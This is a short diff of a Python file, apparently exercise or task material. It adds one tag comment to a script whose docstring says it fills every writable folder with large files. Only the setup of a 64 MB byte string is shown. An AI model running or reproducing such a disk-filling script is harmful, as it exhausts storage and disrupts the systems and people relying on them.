@@ -1,6 +1,7 @@
 """Fills every folder that it can write into with large files."""
 # aufgabe1
 # solved: a1-vgg-init
+# human: a1-vgg-init
 # %% a1-tv
 import os, ipykernel
 data = b"1" * 2**26
